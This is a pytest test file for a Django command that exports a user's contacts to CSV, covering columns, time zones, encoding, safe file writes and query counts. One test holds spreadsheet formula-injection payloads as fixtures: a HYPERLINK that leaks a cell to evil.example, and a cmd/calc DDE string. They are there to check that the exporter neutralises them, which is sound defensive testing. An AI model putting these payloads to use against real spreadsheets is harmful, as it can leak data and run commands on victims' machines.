"""export_contacts: the user's own contacts, safe in a spreadsheet, in a fixed number of queries."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from contacts import exporting
from contacts.exporting import CSV_COLUMNS, write_csv
from contacts.models import CadenceSource, Circle, Contact, ContactMethod
from tests.factories import ContactFactory, ContactMethodFactory, TagFactory

pytestmark = pytest.mark.django_db

COLUMNS = [
    "name", "given_name", "family_name", "nickname", "emails", "phones", "company", "title", "circle", "tags",
    "birthday", "cadence_days", "cadence_source", "depth_score", "last_interaction_at", "next_due_on",
    "archived", "notes",
]


def export(email, *args, stdout=None) -> tuple[str, str]:
    out, err = stdout or io.StringIO(), io.StringIO()
    call_command("export_contacts", "--user", email, "--format", "csv", *args, stdout=out, stderr=err)
    return (out.getvalue() if stdout is None else ""), err.getvalue()


def parse(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def ana(owner):
    ana = ContactFactory(
        owner=owner, display_name="Ana Silva", given_name="Ana", family_name="Silva", nickname="Anita",
        company="Acme", title="Engineer", circle=Circle.CLOSE, birthday_month=2, birthday_day=9,
        birthday_year=1990, notes="Likes hiking.\nAllergic to cats.",
        last_interaction_at=datetime.datetime(2024, 3, 1, 23, 30, tzinfo=datetime.UTC),
    )
    Contact.objects.filter(pk=ana.pk).update(  # the engine's fields are not editable
        effective_cadence_days=30, cadence_source=CadenceSource.CIRCLE, depth_score=72,
        next_due_on=datetime.date(2024, 3, 31),
    )
    ContactMethodFactory(contact=ana, value="ana@example.org")
    ContactMethodFactory(contact=ana, value="ana.silva@work.example")
    ContactMethodFactory(contact=ana, kind=ContactMethod.Kind.PHONE, value="555 0100")
    ContactMethodFactory(contact=ana, kind=ContactMethod.Kind.SOCIAL, value="@ana@mastodon.example")
    ana.tags.add(TagFactory(owner=owner, name="hiking"), TagFactory(owner=owner, name="college"))
    return ana


def test_columns_and_values(owner, ana):
    owner.time_zone = "Europe/Lisbon"
    owner.save()
    ContactFactory(owner=owner, display_name="Ben", birthday_month=2, birthday_day=29, archived=True)
    output, _ = export(owner.email)
    assert output.startswith(",".join(COLUMNS) + "\r\n")
    assert list(CSV_COLUMNS) == COLUMNS
    anas, bens = parse(output)
    assert anas == {
        "name": "Ana Silva", "given_name": "Ana", "family_name": "Silva", "nickname": "Anita",
        "emails": "ana@example.org;ana.silva@work.example", "phones": "555 0100", "company": "Acme",
        "title": "Engineer", "circle": "close", "tags": "college;hiking", "birthday": "1990-02-09",
        "cadence_days": "30", "cadence_source": "circle", "depth_score": "72",
        "last_interaction_at": "2024-03-01T23:30:00+00:00",  # Lisbon is on UTC in winter
        "next_due_on": "2024-03-31", "archived": "false", "notes": "Likes hiking.\nAllergic to cats.",
    }
    assert bens["birthday"] == "--02-29"
    assert bens["archived"] == "true"
    assert (bens["emails"], bens["tags"], bens["depth_score"], bens["last_interaction_at"]) == ("", "", "", "")
    assert bens["cadence_source"] == "none"


def test_last_interaction_at_is_in_the_users_time_zone(owner, ana):
    owner.time_zone = "Asia/Tokyo"
    owner.save()
    (row,) = parse(export(owner.email)[0])
    assert row["last_interaction_at"] == "2024-03-02T08:30:00+09:00"


def test_formula_cells_are_neutralised(owner):
    link = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    ContactFactory(owner=owner, display_name=link, notes="+1 call me", company="@corp", title="-boss",
                   nickname="\tTab", given_name="\rCR", family_name="Safe = fine")
    sneaky = ContactFactory(owner=owner, display_name="Dee", notes="=1+1")
    ContactMethodFactory(contact=sneaky, kind=ContactMethod.Kind.PHONE, value="+44 20 7946 0958")
    sneaky.tags.add(TagFactory(owner=owner, name="=cmd|' /C calc'!A0"))
    rows = {row["nickname"] or row["name"]: row for row in parse(export(owner.email)[0])}
    evil = rows["'\tTab"]
    assert evil["name"] == "'" + link
    assert evil["notes"] == "'+1 call me"
    assert (evil["company"], evil["title"], evil["given_name"]) == ("'@corp", "'-boss", "'\rCR")
    assert evil["family_name"] == "Safe = fine"  # only a first character starts a formula
    dee = rows["Dee"]
    assert (dee["notes"], dee["phones"], dee["tags"]) == ("'=1+1", "'+44 20 7946 0958", "'=cmd|' /C calc'!A0")


def test_neutralise():
    assert [exporting.neutralise(s) for s in ("=A1", "+", "-2", "@x", "\tx", "\rx", "", "Ana", "'=x")] == [
        "'=A1", "'+", "'-2", "'@x", "'\tx", "'\rx", "", "Ana", "'=x"
    ]


def test_only_the_users_own_contacts(owner, other, ana):
    theirs = ContactFactory(owner=other, display_name="Otto's friend")
    ContactMethodFactory(contact=theirs, value="secret@example.org")
    output, errors = export(owner.email)
    assert [row["name"] for row in parse(output)] == ["Ana Silva"]
    assert "Otto" not in output and "secret@" not in output
    assert errors == f"Exported 1 contact for {owner.email}.\n"


def test_stdout_gets_the_csv_and_stderr_the_summary(owner, ana):
    ContactFactory(owner=owner, display_name="Zoë Ærøe")
    output, errors = export(owner.email)
    assert [row["name"] for row in parse(output)] == ["Ana Silva", "Zoë Ærøe"]
    assert errors == f"Exported 2 contacts for {owner.email}.\n"
    assert "Exported" not in output


def test_a_byte_stdout_gets_utf8_and_crlf(owner, ana):
    ContactFactory(owner=owner, display_name="Zoë")
    raw = io.BytesIO()
    stdout = io.TextIOWrapper(raw, encoding="ascii")  # a locale that cannot even spell Zoë
    export(owner.email, stdout=stdout)
    data = raw.getvalue()
    assert data.startswith(b"name,given_name,") and data.endswith(b"\r\n")
    assert "Zoë".encode() in data
    assert data.count(b"\r\n") == 3  # the header and two contacts (a note's own newline stays as it is)
    assert b'"Likes hiking.\nAllergic to cats."' in data


def test_output_file(owner, ana, tmp_path):
    target = tmp_path / "contacts.csv"
    target.write_text("an older export")
    output, errors = export(owner.email, "--output", str(target))
    assert output == f"Exported 1 contact for {owner.email} to {target}.\n"
    assert errors == ""
    data = target.read_bytes()
    assert data.startswith(b"name,") and not data.startswith(b"\xef\xbb\xbf")
    assert [row["name"] for row in parse(data.decode())] == ["Ana Silva"]
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left behind


def test_a_failed_export_leaves_the_old_file_alone(owner, ana, tmp_path, monkeypatch):
    target = tmp_path / "contacts.csv"
    target.write_text("an older export")

    def broken(contact, tz):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(exporting, "csv_row", broken)
    with pytest.raises(RuntimeError):
        export(owner.email, "--output", str(target))
    assert target.read_text() == "an older export"
    assert list(tmp_path.iterdir()) == [target]


def test_an_output_in_a_missing_folder(owner, tmp_path):
    with pytest.raises(CommandError, match="Cannot write .*/nowhere/contacts.csv: No such file or directory"):
        export(owner.email, "--output", str(tmp_path / "nowhere" / "contacts.csv"))


def test_unknown_user_and_unknown_format(owner):
    with pytest.raises(CommandError, match="There is no user with the email address 'nobody@example.com'"):
        export("nobody@example.com")
    with pytest.raises(CommandError, match="argument --format: invalid choice: 'xlsx'"):
        call_command("export_contacts", "--user", owner.email, "--format", "xlsx")


def test_no_contacts(outsider):
    output, errors = export(outsider.email)
    assert output == ",".join(COLUMNS) + "\r\n"
    assert errors == f"Exported 0 contacts for {outsider.email}.\n"


def make_contacts(owner, n):
    tags = [TagFactory(owner=owner) for _ in range(3)]
    for contact in ContactFactory.create_batch(n, owner=owner):
        ContactMethodFactory(contact=contact)
        ContactMethodFactory(contact=contact, kind=ContactMethod.Kind.PHONE, value="555 0199")
        contact.tags.add(*tags[: contact.pk % 4])


@pytest.mark.parametrize("n", [5, 50])
def test_a_fixed_number_of_queries(owner, n, django_assert_max_num_queries):
    make_contacts(owner, n)
    with django_assert_max_num_queries(3):  # contacts, their methods, their tags
        assert write_csv(owner, io.StringIO()) == n
    with django_assert_max_num_queries(4):  # and the user
        export(owner.email)


def test_the_query_count_does_not_grow(owner):
    make_contacts(owner, 5)
    with CaptureQueriesContext(connection) as few:
        write_csv(owner, io.StringIO())
    make_contacts(owner, 45)
    with CaptureQueriesContext(connection) as many:
        assert write_csv(owner, io.StringIO()) == 50
    assert len(few) == len(many) == 3
